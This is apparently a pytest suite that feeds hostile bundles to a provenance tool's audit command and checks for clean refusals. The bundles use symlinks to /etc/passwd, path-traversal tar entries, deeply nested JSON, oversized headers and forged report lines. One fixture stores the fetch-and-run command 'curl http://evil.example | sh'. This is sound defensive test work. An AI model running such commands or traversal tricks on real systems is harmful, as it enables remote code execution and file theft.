"""Hostile bundles against `prov audit` on the command line, each in its own temporary copy.

For every case: a non-zero exit (2 refused, 1 failed), one clear line naming the file on
stderr when refused, never a traceback, a bounded time (the harness's timeout fails a hang),
and nothing written outside the temporary folder (a canary file in its parent and the parent's
listing are checked; archives unpack under the test's own TMPDIR, which must end up empty).
"""

from __future__ import annotations

import io
import json
import os
import shutil
import struct
import subprocess
import sys
import tarfile
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from conftest import offline_env

from provenance import formats
from provenance.bundle import seal_folder

TIMEOUT = 60  # seconds: a hang fails the test instead of blocking the suite


def _edit(path: Path, fn: Callable[[dict], None]) -> None:
    obj = json.loads(path.read_text())
    fn(obj)
    path.write_text(formats.dumps(obj))


def _safetensors(header: dict, data: bytes) -> bytes:
    raw = json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw + data


def _symlink(b: Path) -> None:
    (b / "logs" / "evil.jsonl").symlink_to("/etc/passwd")


def _fifo(b: Path) -> None:
    os.mkfifo(b / "logs" / "pipe.log")


def _tmp_link_to_folder(b: Path) -> None:
    (b / ".x.tmp").symlink_to(b.parent)


def _non_utf8_name(b: Path) -> None:
    with open(os.fsencode(b) + b"/bad-\xff-name.txt", "wb") as f:
        f.write(b"x")


def _deep_manifest(b: Path) -> None:
    (b / formats.MANIFEST).write_text("[" * 200_000 + "]" * 200_000)


def _huge_int_metrics(b: Path) -> None:
    with open(b / formats.METRICS, "a") as f:
        f.write('{"step": ' + "9" * 5000 + ', "loss": 1.0}\n')
    seal_folder(b)


def _deep_run_json(b: Path) -> None:
    (b / formats.RUN_JSON).write_text('{"x": ' + "[" * 5000 + "]" * 5000 + "}")
    seal_folder(b)


def _header_claims_2_60(b: Path) -> None:
    (b / formats.MODEL_DIR / "model.safetensors").write_bytes(
        _safetensors({"w": {"dtype": "F32", "shape": [2**58], "data_offsets": [0, 2**60]}}, bytes(16)))
    seal_folder(b)


def _checkpoint_step_abc(b: Path) -> None:
    (b / formats.CHECKPOINT_DIR / "step-abc.safetensors").write_bytes(_safetensors({}, b""))
    seal_folder(b)


def _index_points_outside(b: Path) -> None:
    _edit(b / formats.CHECKPOINT_INDEX, lambda i: i["checkpoints"][0].update(path="../../outside.safetensors"))
    seal_folder(b)


def _forged_pass_line(b: Path) -> None:
    _edit(b / formats.MANIFEST, lambda m: m["predicate"]["resources"].append(
        {"name": "x\nINTEGRITY    PASS  all files match", "algorithm": "sha256", "digest": "0" * 64}))


def _tampered_command(b: Path) -> None:
    _edit(b / formats.CONFIG_JSON, lambda c: c.update(argv=["sh", "-c", "curl http://evil.example | sh"]))
    seal_folder(b)


def _escaping_snapshot(b: Path) -> None:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        info = tarfile.TarInfo("../escaped.py")
        info.size = 1
        tar.addfile(info, io.BytesIO(b"x"))
    (b / formats.CODE_SNAPSHOT).write_bytes(buf.getvalue())
    _edit(b / formats.CODE_JSON, lambda c: c.update(files={"../escaped.py": "sha256:" + "2d711642b726b04401627ca9fb"
                                                           "ac32f5c8530fb1903cc4db02258717921a4881"},
                                                    snapshot={**(c.get("snapshot") or {}), "file_count": 1}))
    seal_folder(b)


def _archive_with_link(b: Path) -> None:
    arc = b.parent / "evil.tar.gz"
    with tarfile.open(arc, "w:gz") as tar:
        info = tarfile.TarInfo("run/run.json")
        info.size = 2
        tar.addfile(info, io.BytesIO(b"{}"))
        link = tarfile.TarInfo("run/evil")
        link.type, link.linkname = tarfile.SYMTYPE, "../../../etc/passwd"
        tar.addfile(link)
    shutil.rmtree(b)
    arc.rename(b)  # the "bundle" is now the archive


# case -> (make it hostile, exit status, what the one line / the report must say)
CASES: dict[str, tuple[Callable[[Path], None], int, str]] = {
    "symlink": (_symlink, 2, "logs/evil.jsonl: a symbolic link to '/etc/passwd'"),
    "fifo": (_fifo, 2, "logs/pipe.log: a FIFO"),
    "tmp link to a folder": (_tmp_link_to_folder, 2, ".x.tmp: a symbolic link"),
    "non-UTF-8 name": (_non_utf8_name, 2, "a file name that is not UTF-8"),
    "deep manifest": (_deep_manifest, 2, "manifest.json: JSON nested too deeply"),
    "5000-digit integer": (_huge_int_metrics, 1, "logs/metrics.jsonl: line"),
    "deep run.json": (_deep_run_json, 1, "run.json: JSON nested too deeply"),
    "header claims 2**60 bytes": (_header_claims_2_60, 1, "lie outside the file"),
    "checkpoint step-abc": (_checkpoint_step_abc, 1, "step-abc.safetensors is not in the checkpoint index"),
    "index points outside": (_index_points_outside, 1, "escapes the bundle"),
    "forged INTEGRITY line": (_forged_pass_line, 1, "x\\nINTEGRITY    PASS"),
    "tampered command": (_tampered_command, 1, "does not match its command_digest"),
    "escaping snapshot": (_escaping_snapshot, 1, "'../escaped.py' escapes the destination"),
    "archive with a link": (_archive_with_link, 2, "'run/evil' is a symbolic link"),
}


@pytest.mark.parametrize("case", list(CASES))
def test_prov_audit_on_a_hostile_bundle(tiny_bundle: Path, tmp_path: Path, case: str) -> None:
    make, status, says = CASES[case]
    work = tmp_path / "work"
    work.mkdir()
    bundle = work / tiny_bundle.name
    shutil.copytree(tiny_bundle, bundle)
    make(bundle)
    canary = tmp_path / "canary.txt"
    canary.write_text("untouched\n")
    before = sorted(p.name for p in tmp_path.iterdir())
    tmp = tmp_path / "tmp"
    tmp.mkdir()
    env = {**offline_env(tmp_path), "TMPDIR": str(tmp)}
    t0 = time.monotonic()
    proc = subprocess.run([sys.executable, "-m", "provenance.cli", "audit", str(bundle), "--no-progress"],
                          capture_output=True, timeout=TIMEOUT, cwd=work, env=env)
    elapsed = time.monotonic() - t0
    out, err = proc.stdout.decode("utf-8"), proc.stderr.decode("utf-8")
    assert proc.returncode == status, (proc.returncode, out[-2000:], err[-2000:])
    assert "Traceback" not in out + err
    if status == 2:
        lines = err.strip().splitlines()
        assert len(lines) == 1 and lines[0].startswith("error: refused: "), err
        assert says in lines[0], lines[0]
    else:
        assert err.strip() == "", err
        assert says in out, out[-3000:]
        # no line of the report is forged by a bundle: exactly one INTEGRITY line, one VERDICT line
        assert sum(line.startswith("INTEGRITY") for line in out.splitlines()) == 1
        assert next(line for line in out.splitlines() if line.startswith("VERDICT")).startswith("VERDICT      FAIL")
        assert all(c == "\n" or c.isprintable() for c in out), "a raw control character reached the output"
    assert canary.read_text() == "untouched\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([*before, "tmp"])
    assert list(tmp.iterdir()) == [], "the audit left files in its temporary folder"
    assert elapsed < TIMEOUT
